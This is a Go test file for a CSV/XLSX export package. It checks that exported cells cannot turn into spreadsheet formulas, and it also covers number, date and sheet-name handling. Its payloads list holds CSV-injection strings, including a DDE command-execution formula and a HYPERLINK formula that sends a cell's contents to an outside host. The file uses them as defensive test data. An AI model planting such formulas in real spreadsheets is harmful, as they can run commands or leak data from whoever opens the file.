package export_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"github.com/wspolnota/wspolnota/export"
)

// payloads are what spreadsheets run when they meet it at the beginning of a
// cell (OWASP, CSV Injection).
var payloads = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
	" =1+1", "\u00a0=1+1", "＝1+1", "|calc", `=HYPERLINK("http://example.org?x="&A1,"tu")`, "%0A=1+1",
}

func table(cells ...string) export.Table {
	t := export.Table{Name: "Próba", Head: []string{"Nazwa"}}
	for _, c := range cells {
		t.Rows = append(t.Rows, []any{c})
	}
	return t
}

func readCSV(t interface{ Fatal(...any) }, table export.Table) [][]string {
	var out bytes.Buffer
	if err := export.CSV(&out, table); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func readXLSX(t interface{ Fatal(...any) }, table export.Table) *excelize.File {
	var out bytes.Buffer
	if err := export.XLSX(&out, table); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestFormulasStayText(t *testing.T) {
	lines := readCSV(t, table(payloads...))
	sheet := readXLSX(t, table(payloads...))
	defer sheet.Close()
	rows, err := sheet.GetRows("Próba")
	if err != nil {
		t.Fatal(err)
	}
	for i, payload := range payloads {
		if got := lines[i+1][0]; !strings.HasPrefix(got, "'") {
			t.Errorf("CSV of %q: %q", payload, got)
		}
		if got := rows[i+1][0]; !strings.HasPrefix(got, "'") {
			t.Errorf("XLSX of %q: %q", payload, got)
		}
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, err := sheet.GetCellFormula("Próba", cell); err != nil || formula != "" {
			t.Errorf("%q became the formula %q (%v)", payload, formula, err)
		}
	}
}

func TestTitlesAreNeutralToo(t *testing.T) {
	hostile := export.Table{Name: "a", Head: []string{"=1+1"}}
	if got := readCSV(t, hostile)[0][0]; got != "'=1+1" {
		t.Errorf("title %q", got)
	}
}

func TestNumbersAreNumbers(t *testing.T) {
	at := time.Date(2014, time.June, 13, 14, 30, 0, 0, time.UTC) // 16:30 in Wisła
	full := export.Table{Name: "Kwoty", Head: []string{"a", "b", "c", "d", "e", "f", "g"}, Rows: [][]any{
		{export.Money(1_000_000), export.Money(-5), -7, 0.125, true, export.Day{Time: at}, at},
		{nil, export.Money(0), int64(0), 1e6, false, export.Day{}, time.Time{}},
	}}
	want := [][]string{{"a", "b", "c", "d", "e", "f", "g"},
		{"10000.00", "-0.05", "-7", "0.125", "true", "2014-06-13", "2014-06-13T16:30:00+02:00"},
		{"", "0.00", "0", "1000000", "false", "", ""}}
	if diff := cmp.Diff(want, readCSV(t, full)); diff != "" {
		t.Error(diff)
	}
	sheet := readXLSX(t, full)
	defer sheet.Close()
	for cell, want := range map[string]string{"A2": "10000", "B2": "-0.05", "C2": "-7", "F2": "41803.6875", "G2": "41803.6875"} {
		if got, err := sheet.GetCellValue("Kwoty", cell, excelize.Options{RawCellValue: true}); err != nil || got != want {
			t.Errorf("%s = %q, want %q (%v)", cell, got, want, err)
		}
		if kind, _ := sheet.GetCellType("Kwoty", cell); kind != excelize.CellTypeUnset && kind != excelize.CellTypeNumber {
			t.Errorf("%s is of type %d, not a number", cell, kind)
		}
	}
	if shown, _ := sheet.GetCellValue("Kwoty", "G2"); shown != "2014-06-13 16:30" {
		t.Errorf("moment shown as %q", shown)
	}
}

// What was typed comes back from both forms, but for the apostrophe and for
// signs that no file of text can hold.
func TestAnyTextComesBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		typed := rapid.SliceOfN(rapid.StringOfN(rapid.RuneFrom([]rune("aż=+-@ \t;,\"'\n")), 0, 12, -1), 1, 5).Draw(t, "cells")
		two := table(typed...)
		two.Head = append(two.Head, "") // a line of one empty cell is no line in CSV
		for i := range two.Rows {
			two.Rows[i] = append(two.Rows[i], "")
		}
		for i, line := range readCSV(t, two)[1:] {
			want := strings.ReplaceAll(typed[i], "\r\n", "\n") // as readers of CSV do
			if line[0] != want && line[0] != "'"+want {
				t.Fatalf("%q came back from CSV as %q", want, line[0])
			}
		}
		sheet := readXLSX(t, table(typed...))
		defer sheet.Close()
		for i, want := range typed {
			cell, _ := excelize.CoordinatesToCellName(1, i+2)
			got, err := sheet.GetCellValue("Próba", cell)
			if err != nil {
				t.Fatal(err)
			}
			if got != want && got != "'"+want {
				t.Fatalf("%q came back as %q", want, got)
			}
		}
	})
}

func TestNameOfASheetKeepsTheRulesOfExcel(t *testing.T) {
	for _, name := range []string{"", "a/b:c*d?[e]", strings.Repeat("ż", 60), "'"} {
		sheet := readXLSX(t, export.Table{Name: name, Head: []string{"a"}})
		if list := sheet.GetSheetList(); len(list) != 1 || list[0] == "" {
			t.Errorf("%q: sheets %q", name, list)
		}
		sheet.Close()
	}
}

func TestCellsBeyondTheLimitOfExcelAreCut(t *testing.T) {
	sheet := readXLSX(t, table(strings.Repeat("ą", 40_000), "a\x00b\x07c"))
	defer sheet.Close()
	if got, err := sheet.GetCellValue("Próba", "A2"); err != nil || len([]rune(got)) != 32767 {
		t.Errorf("%d letters (%v)", len([]rune(got)), err)
	}
	if got, _ := sheet.GetCellValue("Próba", "A3"); got != "abc" {
		t.Errorf("signs that XML cannot hold: %q", got)
	}
}

func BenchmarkXLSX100000Rows(b *testing.B) {
	t := table()
	t.Head = []string{"a", "b", "c", "d", "e"}
	for range 100_000 {
		t.Rows = append(t.Rows, []any{"Stowarzyszenie Przykładowe", export.Money(1000), 5, export.Day{Time: time.Now()}, "Rybnik"})
	}
	b.ReportAllocs()
	for b.Loop() {
		if err := export.XLSX(io.Discard, t); err != nil {
			b.Fatal(err)
		}
	}
}
